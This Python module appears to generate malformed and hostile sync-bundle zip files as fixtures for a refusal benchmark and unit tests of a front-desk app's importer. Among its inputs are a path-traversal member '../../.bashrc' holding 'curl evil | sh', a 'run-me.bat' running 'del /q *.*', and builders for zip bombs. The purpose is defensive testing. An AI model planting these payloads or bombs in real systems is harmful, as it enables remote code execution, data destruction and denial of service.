"""Every kind of bad sync bundle, generated: for bench/bench_refusals.py and the unit tests.

Each generator writes one file and returns its path; :data:`KINDS` maps a kind's name to the
generator and the error code a reader must refuse it with. The bundles that need a real source
are built from a *good* bundle written by :func:`good_bundle` (versions of register entries made
with the same content addresses the app uses, from a site that is not the importing one), so
every bad file differs from a good one in exactly the way its name says. Zips whose directory
lies are written by hand (:func:`raw_zip`): ``zipfile`` will not write a lie.

Run on its own to write every kind into a folder: ``python bench/bad_bundles.py FOLDER``.
"""
from __future__ import annotations

import hashlib
import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from frontdesk.domain.sync.versioning import Version, canonical_json, format_hlc, make_version  # noqa: E402
from frontdesk.sync.bundle import (  # noqa: E402
    MANIFEST,
    PURGES,
    VERSIONS,
    BundleMeta,
    version_to_json,
    write_bundle,
)

SOURCE = "site-source-0000"
SCHEMA = 1
T0 = datetime(2026, 11, 22, 2, 0, tzinfo=UTC)


def versions(n: int, *, seed: int = 1, kind: str = "visit", site: str = SOURCE) -> Iterator[Version]:
    """``n`` register-entry versions of ``n`` records, stamped a second apart from ``T0``."""
    rng = random.Random(seed)
    start = int(T0.timestamp() * 1000) - n * 1000
    for i in range(n):
        name = "".join(chr(rng.randrange(0x4E00, 0x9FA5)) for _ in range(3))
        payload = {"kind": "visitor", "name": name, "phone": f"138{rng.randrange(10**8):08d}",
                   "purpose": "送快递", "time_in": (T0 - timedelta(seconds=n - i)).isoformat(),
                   "time_out": None, "notes": "来访" * rng.randrange(1, 20)}
        yield make_version(kind, f"rec-{seed}-{i:07d}", [], format_hlc(start + i * 1000, 0, site),
                           site, payload)


def good_bundle(path: Path, n: int = 20, *, site: str = SOURCE, schema: int = SCHEMA) -> Path:
    """A good bundle of ``n`` versions from ``site``."""
    meta = BundleMeta(schema_version=schema, site_id=site, site_name="北门", created_at=T0,
                      bundle_id=f"bundle-{site}-{n}")
    write_bundle(path, versions(n, site=site), [], meta)
    return path


def members_of(path: Path) -> dict[str, bytes]:
    """A zip's members by name."""
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def assemble(path: Path, members: dict[str, bytes], **manifest_changes: object) -> Path:
    """A zip of ``members`` whose manifest lists every member but itself with its true size and
    SHA-256 (as a careful forger would), after ``manifest_changes`` are applied."""
    manifest = json.loads(members[MANIFEST])
    manifest["members"] = [{"name": name, "size": len(data),
                            "sha256": hashlib.sha256(data).hexdigest()}
                           for name, data in members.items() if name != MANIFEST]
    manifest.update(manifest_changes)
    if VERSIONS in members:
        manifest["counts"]["versions"] = members[VERSIONS].count(b"\n")
    members = {**members, MANIFEST: canonical_json(manifest).encode()}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2026, 11, 22, 2, 0, 0)), data,
                        compress_type=zipfile.ZIP_DEFLATED)
    return path


@dataclass
class RawMember:
    """A member written by :func:`raw_zip`: what its headers say and the bytes that follow."""

    name: str
    data: bytes  # already deflated when ``method`` is 8
    size: int  # declared uncompressed size
    crc: int
    method: int = 8


def raw_zip(path: Path, members: Sequence[RawMember] | Iterator[RawMember]) -> Path:
    """Write a zip by hand (local headers, data, central directory, ZIP64 end records when the
    count needs them), declaring whatever the members say."""
    central = io.BytesIO()
    count = 0
    with path.open("wb") as out:
        for m in members:
            name = m.name.encode()
            offset = out.tell()
            out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, m.method, 0, 0x21,
                                  m.crc, len(m.data), m.size, len(name), 0))
            out.write(name)
            out.write(m.data)
            central.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, m.method, 0,
                                      0x21, m.crc, len(m.data), m.size, len(name), 0, 0, 0, 0,
                                      0, offset))
            central.write(name)
            count += 1
        cd_offset, cd = out.tell(), central.getvalue()
        out.write(cd)
        if count >= 0xFFFF:
            end64 = out.tell()
            out.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count,
                                  len(cd), cd_offset))
            out.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, end64, 1))
        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(count, 0xFFFF),
                              min(count, 0xFFFF), len(cd), cd_offset, 0))
    return path


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _deflated_zeros(total: int) -> bytes:
    """A raw deflate stream of ``total`` zero bytes, made a megabyte at a time."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk, parts, left = bytes(1 << 20), [], total
    while left > 0:
        parts.append(c.compress(chunk[:min(left, len(chunk))]))
        left -= len(chunk)
    parts.append(c.flush())
    return b"".join(parts)


# ------------------------------------------------------------------------ the bad kinds


def truncated(folder: Path, good: Path) -> Path:
    data = good.read_bytes()
    return _write(folder / "truncated.fdb", data[: len(data) // 2])


def flipped_bytes(folder: Path, good: Path) -> Path:
    data = bytearray(good.read_bytes())
    for i in range(len(data) // 4, len(data) // 2, 97):  # in the members' compressed data
        data[i] ^= 0x55
    return _write(folder / "flipped.fdb", bytes(data))


def added_member(folder: Path, good: Path) -> Path:
    with zipfile.ZipFile(_write(folder / "added.fdb", good.read_bytes()), "a") as zf:
        zf.writestr("run-me.bat", b"del /q *.*\r\n")
    return folder / "added.fdb"


def raised_schema(folder: Path, good: Path) -> Path:
    m = members_of(good)
    return assemble(folder / "raised_schema.fdb", m,
                    schema_version=json.loads(m[MANIFEST])["schema_version"] + 1000)


def honest_bomb(folder: Path, _good: Path, size: int = 200 * 1024**2) -> Path:
    """Members that really expand to ``size`` zero bytes each, and say so."""
    data = _deflated_zeros(size)
    crc = 0
    chunk, left = bytes(1 << 20), size
    while left > 0:
        crc = zlib.crc32(chunk[:min(left, len(chunk))], crc)
        left -= len(chunk)
    return raw_zip(folder / "honest_bomb.fdb", [
        RawMember(MANIFEST, _deflate(b"{}"), 2, zlib.crc32(b"{}")),
        RawMember(VERSIONS, data, size, crc)])


def lying_bomb(folder: Path, good: Path, size: int = 1024**3) -> Path:
    """The good bundle's directory and manifest, but ``versions.jsonl``'s bytes are a deflate
    stream of ``size`` zeros while its headers still declare the honest small size."""
    m = members_of(good)
    return raw_zip(folder / "lying_bomb.fdb", [
        RawMember(VERSIONS, _deflated_zeros(size), len(m[VERSIONS]), zlib.crc32(m[VERSIONS])),
        RawMember(PURGES, _deflate(m[PURGES]), len(m[PURGES]), zlib.crc32(m[PURGES])),
        RawMember(MANIFEST, _deflate(m[MANIFEST]), len(m[MANIFEST]), zlib.crc32(m[MANIFEST]))])


def many_members(folder: Path, _good: Path, count: int = 1_000_000) -> Path:
    """A zip of ``count`` empty members (ZIP64 end records past 65,535)."""
    empty = _deflate(b"")
    return raw_zip(folder / "many_members.fdb",
                   (RawMember(f"m{i}", empty, 0, 0) for i in range(count)))


def big_member_bad_first_line(folder: Path, _good: Path, chunks: int = 2000) -> Path:
    """What took 170 s to refuse: an 11.8 MB bundle whose ``versions.jsonl`` honestly declares
    ~2 GB (a compression ratio of about 150, under the 200:1 cap), the first line broken and the
    manifest's hash of the member a lie that only reading to its end would show. ``chunks``
    MiB of lines after the first."""
    rng = random.Random(16)
    lines, size = [], 0
    while size < 1 << 20:
        hexes = "".join(rng.choice("0123456789abcdef") for _ in range(2))
        line = ('{"kind":"visit","note":"' + "来访" * 100 + hexes + '"}\n').encode()
        lines.append(line)
        size += len(line)
    chunk = b"".join(lines)[: 1 << 20]
    first = b'{"kind": "visit", broken\n'
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    head = c.compress(first) + c.flush(zlib.Z_FULL_FLUSH)
    # after a full flush the compressor starts afresh, so every copy of the chunk deflates to
    # the same bytes: deflate it once and repeat them
    body = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush()
    crc = zlib.crc32(first)
    for _ in range(chunks):
        crc = zlib.crc32(chunk, crc)
    total = len(first) + chunks * len(chunk)
    manifest = canonical_json({
        "format": "frontdesk-bundle", "format_version": 1, "schema_version": SCHEMA,
        "app_version": "0", "bundle_id": "big", "created_at": "2026-11-22T02:00:00Z",
        "source_site": {"id": SOURCE, "name": "北门"}, "for_peer": None, "audit_head": None,
        "counts": {"versions": 1, "purges": 0, "by_kind": {"visit": 1}},
        "members": [{"name": VERSIONS, "size": total, "sha256": "0" * 64},
                    {"name": PURGES, "size": 0, "sha256": hashlib.sha256(b"").hexdigest()}],
    }).encode()

    def members() -> Iterator[RawMember]:
        yield RawMember(MANIFEST, _deflate(manifest), len(manifest), zlib.crc32(manifest))
        yield RawMember(PURGES, _deflate(b""), 0, 0)
        yield RawMember(VERSIONS, head + body * chunks + tail, total, crc)

    return raw_zip(folder / "big_member_bad_first_line.fdb", members())


def path_traversal(folder: Path, good: Path) -> Path:
    members = members_of(good) | {"../../.bashrc": b"curl evil | sh\n"}
    with zipfile.ZipFile(folder / "traversal.fdb", "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return folder / "traversal.fdb"


def empty(folder: Path, _good: Path) -> Path:
    return _write(folder / "empty.fdb", b"")


def random_bytes(folder: Path, _good: Path) -> Path:
    return _write(folder / "random.fdb", random.Random(16).randbytes(1 << 20))


def bad_line(folder: Path, good: Path, where: str) -> Path:
    """The good bundle with one line early (10th) or late (10th from the end) replaced by
    broken JSON, the manifest recomputed so only reading that line finds it."""
    m = members_of(good)
    lines = m[VERSIONS].splitlines(keepends=True)
    at = 9 if where == "early" else len(lines) - 10
    lines[at] = b'{"kind": "visit", "version_id": \n'
    return assemble(folder / f"bad_line_{where}.fdb", m | {VERSIONS: b"".join(lines)})


def own_bundle(folder: Path, _good: Path, *, own_site: str) -> Path:
    """A good bundle written by the importing site itself."""
    return good_bundle(folder / "own.fdb", 20, site=own_site)


def unknown_member(folder: Path, good: Path) -> Path:
    """A member a newer format might add, listed in the manifest with its true hash."""
    m = members_of(good) | {"acks.jsonl": b'{"site":"x","upto":1}\n'}
    return assemble(folder / "unknown_member.fdb", m)


def unknown_kind(folder: Path, good: Path) -> Path:
    """One more version, of a kind this version does not know, with a true content id."""
    m = members_of(good)
    odd = next(versions(1, seed=9, kind="parking_permit"))
    lines = m[VERSIONS] + (version_to_json(odd) + "\n").encode()
    manifest = json.loads(m[MANIFEST])
    by_kind = manifest["counts"]["by_kind"] | {"parking_permit": 1}
    return assemble(folder / "unknown_kind.fdb", m | {VERSIONS: lines},
                    counts=manifest["counts"] | {"by_kind": by_kind})


def bad_stamp(folder: Path, good: Path) -> Path:
    """One version stamped ``999999999999999-999999``, with a true content id."""
    m = members_of(good)
    v = next(versions(1, seed=7))
    odd = make_version(v.kind, v.record_id, [], f"999999999999999-999999-{SOURCE}", SOURCE,
                       v.payload)
    lines = m[VERSIONS] + (version_to_json(odd) + "\n").encode()
    manifest = json.loads(m[MANIFEST])
    by_kind = dict(manifest["counts"]["by_kind"])
    by_kind["visit"] += 1
    return assemble(folder / "bad_stamp.fdb", m | {VERSIONS: lines},
                    counts=manifest["counts"] | {"by_kind": by_kind})


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


Generator = Callable[[Path, Path], Path]

#: name -> (generator taking (folder, good bundle), the codes a reader may refuse it with).
#: ``own_bundle`` needs the importing site's id: use :func:`own_bundle` directly.
KINDS: dict[str, tuple[Generator, tuple[str, ...]]] = {
    "truncated": (truncated, ("corrupt",)),
    # where the flips land decides which check sees them first: the zip's CRC, a line's JSON or
    # a line's content address
    "flipped bytes": (flipped_bytes, ("corrupt", "malformed", "tampered")),
    "added member": (added_member, ("unknown_member",)),
    "raised schema": (raised_schema, ("too_new",)),
    "honest zip bomb": (honest_bomb, ("zip_bomb",)),
    "lying zip bomb": (lying_bomb, ("corrupt", "malformed", "zip_bomb")),
    "a million empty members": (many_members, ("zip_bomb",)),
    "path traversal": (path_traversal, ("unsafe_name",)),
    "empty": (empty, ("not_a_zip",)),
    "random bytes": (random_bytes, ("not_a_zip",)),
    "bad line early": (lambda f, g: bad_line(f, g, "early"), ("malformed",)),
    "bad line late": (lambda f, g: bad_line(f, g, "late"), ("malformed",)),
    "2 GB member with a bad first line": (big_member_bad_first_line, ("malformed",)),
    "unknown member": (unknown_member, ("unknown_member",)),
    "unknown kind": (unknown_kind, ("unknown_kind",)),
    "stamp beyond the format": (bad_stamp, ("bad_stamp",)),
}


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    base = good_bundle(target / "good.fdb", 2000)
    for label, (make, code) in KINDS.items():
        print(f"{label:28} {'/'.join(code):30} {make(target, base)}")
